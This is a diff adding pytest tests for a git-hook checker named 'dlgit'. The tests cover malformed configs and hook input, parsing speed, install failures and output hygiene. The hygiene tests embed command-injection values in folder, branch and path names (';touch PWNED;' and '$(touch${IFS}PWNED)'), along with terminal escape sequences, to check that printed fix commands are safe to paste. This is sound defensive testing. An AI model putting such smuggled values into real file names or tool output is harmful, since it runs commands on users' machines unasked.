+    commit(work, "task: a big config", {f"{folder}/config.yaml": task_config("0.2.0") + keys})
+    parsed, code, out = _time_check(check, work)
+    guards = Guards()
+    guards.check((code, out), "large-file", f"{folder}/config.yaml")
+    if parsed > plain + 0.25:
+        guards.through.append(f"dlgit check: {parsed:.2f} s with the big config, {plain:.2f} s with a plain file of its size")
+    guards.verify()
+
+
+NESTED = "rules: " + "[" * 2000 + "]" * 2000 + "\n"
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 11")
+def test_deeply_nested_dlgit_yaml_is_an_error_not_a_traceback(server: Repo, work: Repo) -> None:
+    work.git("switch", "-q", "-c", "feature-n", "dev")
+    commit(work, "chore: nested settings", {".dlgit.yaml": NESTED})
+    push(work, "feature-n")  # the settings of main judge it: whether it passes is not the point
+    commit(work, "feat: more", {"model/more.py": "M = 1\n"})
+    guards = Guards()
+    proc = push(work, "feature-n")
+    if "Traceback" in proc.stderr or "RecursionError" in proc.stderr:
+        guards.through.append(f"pre-receive: a traceback\n{proc.stderr[-1500:]}")
+    checked = work.dlgit("check", "--branch", "feature-n", "feature-n")  # the work tree's settings: the range has no base
+    guards.expect("dlgit check", checked.returncode, checked.stdout + checked.stderr, None, ".dlgit.yaml", exit_code=2)
+    guards.verify()
+
+
+def test_broken_dlgit_yaml_is_one_paragraph_and_exit_2(work: Repo, check: Check) -> None:
+    work.git("switch", "-q", "-c", "feature-n", "dev")
+    commit(work, "chore: broken settings", {".dlgit.yaml": "rules: [\n"})
+    code, out = check(work, "--branch", "feature-n", "feature-n")
+    assert code == 2 and ".dlgit.yaml" in out and "Traceback" not in out
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 11")
+@pytest.mark.parametrize(("hook", "stdin"), [("pre-receive", "garbage\n"), ("pre-receive", "a b c\n"), ("pre-push", "x y\n")],
+                         ids=["pre-receive-one-word", "pre-receive-a-b-c", "pre-push-two-words"])
+def test_malformed_hook_stdin_is_exit_2_with_one_paragraph(server: Repo, work: Repo, hook: str, stdin: str) -> None:
+    where = server.path if hook == "pre-receive" else work.path
+    proc = dlgit_bytes(where, "hook", hook, *(["origin", str(server.path)] if hook == "pre-push" else []), input=stdin.encode())
+    guards = Guards()
+    guards.expect(hook, proc.returncode, (proc.stdout + proc.stderr).decode(), None, "dlgit: error:", exit_code=2)
+    guards.verify()
+
+
+def test_well_formed_hook_stdin_passes(server: Repo, work: Repo) -> None:
+    main = work.head("main")
+    line = f"{main} {main} refs/heads/main\n"
+    proc = dlgit_bytes(server.path, "hook", "pre-receive", input=line.encode())
+    assert proc.returncode == 0, proc.stderr
+
+
+def _big_message_commit(work: Repo, size: int) -> None:
+    """A commit on a feature branch whose message body is `size` bytes."""
+    work.git("reset", "-q", "--hard", "origin/dev")
+    message = work.path.parent / "message.txt"
+    message.write_text("feat: a long story\n\n" + ("word " * 15 + "\n") * (size // 81))
+    work.git("commit", "-q", "--no-verify", "--allow-empty", "-F", str(message))
+
+
+def test_commit_message_parsing_is_linear(work: Repo, check: Check) -> None:
+    """8 MiB of message may cost 8x the CPU of 1 MiB, 12x with noise (today ≈ 40x: the log
+    parser re-joins the unfinished field on every read of the pipe; a 50 MB message took 25 s).
+    CPU time of this process (the parser runs in-process), the best of two runs: other jobs on
+    the cores do not count."""
+    work.git("switch", "-q", "-c", "feature-story", "dev")
+    work.git("push", "-q", "--no-verify", "-u", "origin", "feature-story")
+    cpu = {}
+    for size in (0, MIB, 8 * MIB):
+        _big_message_commit(work, size)
+        runs = []
+        for _ in range(2):
+            started = time.process_time()
+            check(work)
+            runs.append(time.process_time() - started)
+        cpu[size] = min(runs)
+    small, large = cpu[MIB] - cpu[0], cpu[8 * MIB] - cpu[0]
+    assert large < 12 * max(small, 0.005), f"CPU over an empty message: 1 MiB +{small:.3f} s, 8 MiB +{large:.3f} s"
+
+
+def _install_with_file_size_limit(work: Repo, limit: int) -> subprocess.CompletedProcess[bytes]:
+    def limited() -> None:
+        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
+
+    return subprocess.run([str(Path(sys.executable).with_name("dlgit")), "install"], cwd=work.path, capture_output=True, check=False,
+                          preexec_fn=limited)
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 11")
+def test_install_that_cannot_write_is_exit_2_and_leaves_nothing(work: Repo) -> None:
+    proc = _install_with_file_size_limit(work, 16)  # EFBIG on the first hook script
+    guards = Guards()
+    guards.expect("dlgit install", proc.returncode, (proc.stdout + proc.stderr).decode(), None, "dlgit: error:", exit_code=2)
+    hooks = work.path / ".git" / "hooks"
+    left = sorted(path.name for path in hooks.iterdir() if "dlgit-tmp" in path.name)
+    if left:
+        guards.through.append(f"dlgit install left {left}")
+    guards.verify()
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 11")
+def test_install_into_an_unusable_hooks_folder_is_exit_2(work: Repo) -> None:
+    (work.path / "not-a-folder").write_text("x\n")
+    work.git("config", "core.hooksPath", "not-a-folder/hooks")
+    proc = work.dlgit("install")
+    guards = Guards()
+    guards.expect("dlgit install", proc.returncode, proc.stdout + proc.stderr, None, "dlgit: error:", exit_code=2)
+    guards.verify()
+
+
+def test_install_writes_every_hook(work: Repo) -> None:
+    proc = work.dlgit("install")
+    assert proc.returncode == 0, proc.stderr
+    hooks = work.path / ".git" / "hooks"
+    assert all(os.access(hooks / name, os.X_OK) for name in ("pre-commit", "pre-push"))
+    assert not [path for path in hooks.iterdir() if "dlgit-tmp" in path.name]
+
+
+# --- 13. output hygiene ---------------------------------------------------------------------------
+
+HOSTILE_TASK = "task-x; touch PWNED; #"
+
+
+def _fix_lines(output: str) -> list[str]:
+    """The printed fix commands that mention the hostile names, as a user would paste them."""
+    return [line.removeprefix("remote:").strip() for line in output.splitlines() if "PWNED" in line and "git " in line]
+
+
+def _paste(repo: Repo, lines: list[str]) -> bool:
+    """Run each line in bash in the repository; True when one of them created PWNED."""
+    for line in lines:
+        subprocess.run(["bash", "-c", line], cwd=repo.path, capture_output=True, check=False, timeout=10)
+    return (repo.path / "PWNED").exists()
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 13")
+def test_fix_naming_a_hostile_task_folder_is_safe_to_paste(server: Repo, work: Repo, check: Check) -> None:
+    """A task started from a task whose folder is named `task-x; touch PWNED; #`: its merge into
+    main prints "merge that task first"."""
+    work.git("switch", "-q", "-c", NEW_TASK, "main")
+    commit(work, "task: start lr0.1", {f"tasks/{HOSTILE_TASK}/log.txt": "x\n", f"tasks/{NEW_TASK}/config.yaml": task_config("0.2.0")})
+    work.git("switch", "-q", "main")
+    merge(work, NEW_TASK, f"task: merge {NEW_TASK}")
+    code, out = check(work)
+    proc = push(work, "main", NEW_TASK)
+    assert code == 1 and proc.returncode == 1  # task-scope refuses the merge: the question is its fix
+    pasted = _fix_lines(out) + _fix_lines(proc.stderr)
+    assert pasted, out
+    assert not _paste(work, pasted), "pasting the fix ran `touch PWNED`:\n" + "\n".join(pasted)
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 13")
+def test_fix_naming_a_hostile_squash_trailer_branch_is_safe_to_paste(work: Repo, check: Check) -> None:
+    hostile = "x$(touch${IFS}PWNED)"
+    assert work.git("check-ref-format", "--branch", hostile, check=False).returncode == 0
+    work.git("branch", hostile, "main")
+    work.git("switch", "-q", "dev")
+    commit(work, "feat: a loss", {"model/loss.py": "LOSS = 1\n"})
+    work.git("switch", "-q", "main")
+    work.git("merge", "--squash", "-q", "dev")
+    commit(work, f"chore: release\n\nSquashed-from: {hostile}@{work.head('dev')}")
+    code, out = check(work)
+    assert code == 1
+    pasted = _fix_lines(out)
+    assert pasted, out
+    assert not _paste(work, pasted), "pasting the fix ran `touch PWNED`:\n" + "\n".join(pasted)
+
+
+def test_fix_naming_an_ordinary_task_folder_is_pasted_as_is(work: Repo, check: Check) -> None:
+    parent = "task-0.2.0-20260101T000000-parent"
+    work.git("switch", "-q", "-c", NEW_TASK, "main")
+    commit(work, "task: start lr0.1", {f"tasks/{parent}/log.txt": "x\n", f"tasks/{NEW_TASK}/config.yaml": task_config("0.2.0")})
+    work.git("switch", "-q", "main")
+    merge(work, NEW_TASK, f"task: merge {NEW_TASK}")
+    code, out = check(work)
+    assert code == 1 and f"git merge {parent}   #" in out
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 13")
+def test_status_fix_for_a_hook_in_a_hostile_path_is_safe_to_paste(tmp_path: Path, server: Repo) -> None:
+    work = clone(server.path, tmp_path / "w; touch PWNED; #", hooks=False)
+    assert work.dlgit("install").returncode == 0
+    (work.path / ".git" / "hooks" / "pre-push").chmod(0o644)
+    out = work.dlgit("status").stdout
+    lines = [line.strip() for line in out.splitlines() if line.strip().startswith("chmod +x")]
+    assert lines, out
+    for line in lines:
+        subprocess.run(["bash", "-c", line], cwd=tmp_path, capture_output=True, check=False, timeout=10)
+    assert not (tmp_path / "PWNED").exists(), "\n".join(lines)
+
+
+TERMINAL_TRICKS = "\x1b]52;c;cHduZWQ=\x07\x1b[2J\rfeat: looks fine"
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 13")
+def test_control_characters_never_reach_the_terminal(server: Repo, work: Repo) -> None:
+    commit(work, f"feat: {TERMINAL_TRICKS}", {"model/\x1b[8mhidden.py": "X = 1\n"})
+    guards = Guards()
+    checked = dlgit_bytes(work.path, "check")
+    pushed = subprocess.run(["git", "push", "--no-verify", "origin", "main"], cwd=work.path, capture_output=True, check=False)
+    for guard, proc in (("dlgit check", checked), ("pre-receive", pushed)):
+        output = proc.stdout + proc.stderr
+        if guard == "pre-receive":  # what the hook relayed, not git's own lines
+            output = b"\n".join(line for line in output.split(b"\n") if line.startswith(b"remote:"))
+        if proc.returncode != 1 or b"main-protected" not in output:
+            guards.through.append(f"{guard}: exit {proc.returncode}, expected a main-protected refusal")
+        if b"\x1b" in output or b"\r" in output.replace(b"\r\n", b""):
+            guards.through.append(f"{guard}: raw control characters in the output: {output[:300]!r}")
+    guards.verify()
+
+
+def test_plain_subjects_and_paths_are_printed_as_they_are(work: Repo, check: Check) -> None:
+    commit(work, "feat: straight onto main", {"model/plain name.py": "X = 1\n"})
+    code, out = check(work)
+    assert code == 1 and "feat: straight onto main" in out and "model/plain name.py" in out
+
+
+@pytest.mark.xfail(strict=True, reason="issue 8 item 13")
+def test_json_report_with_a_non_utf8_path_is_valid_utf8(work: Repo) -> None:
+    (work.path / os.fsdecode(b"model/caf\xe9.py")).write_text("X = 1\n")
+    commit(work, "feat: straight onto main")
+    proc = dlgit_bytes(work.path, "check", "--format", "json")
+    assert proc.returncode == 1, proc.stderr
+    report = json.loads(proc.stdout.decode("utf-8"))
+    items = [item for finding in report["commits"] for violation in finding["violations"] for item in violation["items"]]
+    assert any(item.startswith("model/caf") for item in items), items
+
+
+def test_json_report_with_utf8_paths_keeps_them(work: Repo) -> None:
+    commit(work, "feat: straight onto main", {"model/café.py": "X = 1\n"})
+    proc = dlgit_bytes(work.path, "check", "--format", "json")
+    report = json.loads(proc.stdout.decode("utf-8"))
+    assert "model/café.py" in report["commits"][0]["violations"][0]["items"]
+
+
+def test_task_branch_with_non_ascii_digits_is_refused(server: Repo, work: Repo, check: Check) -> None:
+    """Already refused: dlgit.model's patterns use ASCII digit classes."""
+    name = "task-0.2.0-２０２６0101T000000-x"
+    work.git("switch", "-q", "-c", name, "main")
+    commit(work, "task: start x", {f"tasks/{name}/config.yaml": task_config("0.2.0")})
+    guards = Guards()
+    guards.push(push(work, name), "branch-name", name)
+    guards.unchanged(server, f"refs/heads/{name}", None)
+    guards.check(check(work), "branch-name", name)
+    guards.verify()
+
+
+def test_task_branch_with_ascii_digits_passes(server: Repo, work: Repo) -> None:
+    work.git("switch", "-q", "-c", NEW_TASK, "main")
+    commit(work, "task: start lr0.1", {f"tasks/{NEW_TASK}/config.yaml": task_config("0.2.0")})
+    accepted(push(work, NEW_TASK))
+
